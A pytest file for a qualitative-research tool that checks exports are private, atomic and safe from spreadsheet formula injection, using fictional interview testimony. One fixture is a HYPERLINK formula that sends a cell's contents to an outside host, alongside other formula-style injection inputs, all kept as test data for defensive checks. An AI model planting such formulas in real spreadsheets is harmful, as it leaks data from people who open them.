"""Output files: private (0600, folders 0700) under a permissive umask, whole or absent,
and never a formula in a spreadsheet cell. Fictional testimony throughout."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from moksori import outputs
from moksori.analysis import plots
from moksori.analysis.tables import Table
from moksori.cli.app import app
from moksori.coding.case_table import export_cases, import_cases
from moksori.coding.codebook_io import export_csv, import_csv
from moksori.interop.qdpx_export import export_qdpx
from moksori.interop.taguette import taguette_codebook_csv
from moksori.outputs import open_output, part_path, write_output
from moksori.project import Project
from moksori.protect.export import export_documents
from moksori.spreadsheet import Sheet, csv_cell, csv_uncell, xlsx_bytes
from tests.conftest import TEST_PASSPHRASE

KO = "면담자: 언제 오셨어요?\n참여자: 2011년에 두만강을 건넜어요. 동생이랑 같이요.\n"
EN = "Interviewer: When did you come?\nParticipant: In 2011, with my brother.\n"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
VAULT = "vault passphrase (outputs test)"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(autouse=True)
def permissive_umask() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def study(project: Project, tmp_path: Path) -> Project:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "ko.txt").write_text(KO, encoding="utf-8")
    (folder / "en.txt").write_text(EN, encoding="utf-8")
    project.add([folder], workers=1)
    ko = next(d.id for d in project.documents() if d.lang == "ko")
    project.codebook.create("가족 Family")
    project.codings.apply_quote("가족 Family", ko, "동생이랑 같이요")
    project.memos.add("code", "가족 Family", "@SUM(1) 동생 이야기")
    project.cases.add("P01", "fictional")
    project.cases.define_attribute("note", "text")
    project.cases.define_attribute("score", "integer")
    project.cases.set_value("P01", "note", FORMULA)
    project.cases.set_value("P01", "score", "-3")
    return project


# --- file modes ----------------------------------------------------------------------
def test_project_and_vault_files_are_private(study: Project, project_path: Path) -> None:
    wal, shm = Path(f"{project_path}-wal"), Path(f"{project_path}-shm")
    assert wal.exists() and shm.exists()
    assert [mode(p) for p in (project_path, wal, shm)] == [0o600] * 3
    vault_path = project_path.with_suffix(".vault")
    with study.deid.create_vault(vault_path, VAULT):
        assert mode(vault_path) == 0o600


def test_every_export_is_private(study: Project, tmp_path: Path) -> None:
    out = tmp_path / "exports"
    written: list[Path] = []
    table = Table(["가족 Family", FORMULA], ["여성"], [[2], [-3]], "codes")
    written += [table.to_csv(out.with_suffix(".csv")), table.to_xlsx(out.with_suffix(".xlsx"))]
    written += [table.to_parquet(out.with_suffix(".parquet"))]
    written.append(plots.bars(table, tmp_path / "bars.png"))
    files = study.report(tmp_path / "report")
    assert mode(tmp_path / "report") == 0o700
    written += [p for p in (tmp_path / "report").iterdir()]  # report.html, .md, plot files
    assert {files.html, files.markdown} <= set(written)
    docs = [d.id for d in study.documents()]
    for fmt in ("txt", "html", "docx"):
        written += [Path(f) for f in export_documents(study.conn, docs, tmp_path / fmt, fmt).files]
        assert mode(tmp_path / fmt) == 0o700
    export_qdpx(study, tmp_path / "nested" / "study.qdpx")
    written.append(tmp_path / "nested" / "study.qdpx")
    for name in ("cases.csv", "cases.xlsx"):
        export_cases(study.cases, tmp_path / name)
        written.append(tmp_path / name)
    assert all(p.exists() for p in written)
    assert {str(p): oct(mode(p)) for p in written} == {str(p): "0o600" for p in written}


def test_cli_outputs_are_private(study: Project, project_path: Path, tmp_path: Path) -> None:
    proj = str(project_path)
    runs = [
        (["codebook", "export", proj, str(tmp_path / "book.yaml")], "book.yaml"),
        (["codebook", "export", proj, str(tmp_path / "book.csv")], "book.csv"),
        (["codebook", "export", proj, str(tmp_path / "book.qdc")], "book.qdc"),
        (["codebook", "export", proj, str(tmp_path / "t.csv"), "--format", "taguette"], "t.csv"),
        (["memo", "export", proj, "--format", "csv", "-o", str(tmp_path / "m.csv")], "m.csv"),
        (["original", proj, "1", "-o", str(tmp_path / "original.txt")], "original.txt"),
        (["case", "export", proj, str(tmp_path / "c.xlsx")], "c.xlsx"),
    ]
    for args, name in runs:
        r = CliRunner().invoke(app, args)
        assert r.exit_code == 0, (args, r.output)
        assert mode(tmp_path / name) == 0o600, name
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]


# --- whole or nothing -----------------------------------------------------------------
@pytest.fixture(params=["unnamed", "unnamed, copied", "hidden name"])
def how(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every way of writing: O_TMPFILE where the system has it (named by a link, or by a
    copy where linking fails), a hidden .part elsewhere."""
    if request.param == "hidden name":
        monkeypatch.setattr(outputs, "_O_TMPFILE", None)
    if request.param == "unnamed, copied":

        def no_link(*args: object, **kwargs: object) -> None:
            raise PermissionError("no linking here")

        monkeypatch.setattr(outputs.os, "link", no_link)
    return str(request.param)


def test_a_write_that_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path, how: str) -> None:
    target = tmp_path / "coded.csv"
    target.write_bytes(b"the previous export\n")
    with pytest.raises(RuntimeError), open_output(target) as fh:
        fh.write("참여자: 혜산에서 왔어요\n".encode() * 1000)
        raise RuntimeError("killed halfway")
    assert target.read_bytes() == b"the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["coded.csv"]
    write_output(target, b"new\n")
    assert target.read_bytes() == b"new\n" and mode(target) == 0o600


def test_leftovers_of_a_killed_run_are_removed(study: Project, tmp_path: Path, how: str) -> None:
    out = tmp_path / "study.qdpx"
    part_path(out).write_bytes(b"half a zip from a killed run")
    (tmp_path / ".study.qdpx.part").write_bytes(b"half a zip (older moksori)")
    export_qdpx(study, out)
    assert sorted(p.name for p in tmp_path.iterdir() if "qdpx" in p.name) == ["study.qdpx"]


def test_a_killed_process_leaves_no_readable_partial_file(tmp_path: Path) -> None:
    target = tmp_path / "redacted.txt"
    child = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\n"
            "from moksori.outputs import open_output\n"
            f"with open_output({str(target)!r}) as fh:\n"
            "    fh.write('참여자: 무산에서 왔어요\\n'.encode() * 500)\n"
            "    fh.flush()\n"
            "    print('writing', flush=True)\n"
            "    time.sleep(600)\n",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None and child.stdout.readline() == "writing\n"
    child.kill()
    child.wait()
    left = [p for p in tmp_path.iterdir()]
    assert target not in left
    # With O_TMPFILE nothing has a name; otherwise only the hidden part, private.
    assert all(p == part_path(target) and mode(p) == 0o600 for p in left)
    write_output(target, b"done\n")  # the next export of that name removes it
    assert [p.name for p in tmp_path.iterdir()] == ["redacted.txt"]


def test_a_device_is_written_in_place(tmp_path: Path) -> None:
    write_output("/dev/null", b"nothing")  # not renamed over, not an error
    assert Path("/dev/null").exists() and not stat.S_ISREG(os.stat("/dev/null").st_mode)


# --- spreadsheet cells ----------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-3", "'-3"),  # text that looks like a number is still text
        ("@risk", "'@risk"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝SUM(1)", "'＝SUM(1)"),  # full-width, as an East Asian keyboard types it
        ("'=x", "''=x"),  # already quoted: quoted again, so reading back gives it unchanged
        ("가족 = family", "가족 = family"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_csv_cells_never_run(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
    if isinstance(cell, str):
        assert csv_uncell(cell) == value


def test_table_csv_and_xlsx_escape_text_not_numbers(tmp_path: Path) -> None:
    table = Table([FORMULA, "-3"], ["n"], [[-3], [1]], "t", row_header="code")
    with table.to_csv(tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["code", "n"], ["'" + FORMULA, "-3"], ["'-3", "1"]]
    sheet = openpyxl.load_workbook(table.to_xlsx(tmp_path / "t.xlsx")).active
    assert sheet is not None
    cell, number = sheet.cell(row=2, column=1), sheet.cell(row=2, column=2)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert number.value == -3 and number.data_type == "n" and not number.quotePrefix


def test_xlsx_text_that_would_run_keeps_its_quote_prefix() -> None:
    book = xlsx_bytes([Sheet("s", [["h"], ["+1"], ["@a"], ["plain"]])])
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert [(c.value, c.quotePrefix) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("+1", True),
        ("@a", True),
        ("plain", False),
    ]


def test_codebook_csv_escapes_and_reads_back(study: Project, tmp_path: Path) -> None:
    study.codebook.create("+Risk 위험", definition="=1+1 is not a formula")
    text = export_csv(study.codebook)
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'+Risk 위험", "", "'=1+1 is not a formula"] == rows[-1][:3]
    tag = list(csv.reader(io.StringIO(taguette_codebook_csv(study.codebook).decode("utf-8-sig"))))
    assert ["'+Risk 위험", "'=1+1 is not a formula"] in tag
    with Project.create(tmp_path / "other.moksori", TEST_PASSPHRASE) as other:
        import_csv(other.codebook, text)
        code = other.codebook.find("+Risk 위험")
        assert code is not None and code.definition == "=1+1 is not a formula"


def test_case_and_memo_csv_escape_text(study: Project, tmp_path: Path) -> None:
    path = tmp_path / "cases.csv"
    export_cases(study.cases, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("note")] == "'" + FORMULA
    assert row[header.index("score")] == "-3"  # an integer, not text
    with Project.create(tmp_path / "other.moksori", TEST_PASSPHRASE) as other:
        import_cases(other.cases, path)
        assert other.cases.values("P01")["note"] == FORMULA
    memo_rows = list(csv.reader(io.StringIO(study.memos.export("csv"))))
    assert any("'@SUM(1) 동생 이야기" in r for r in memo_rows)
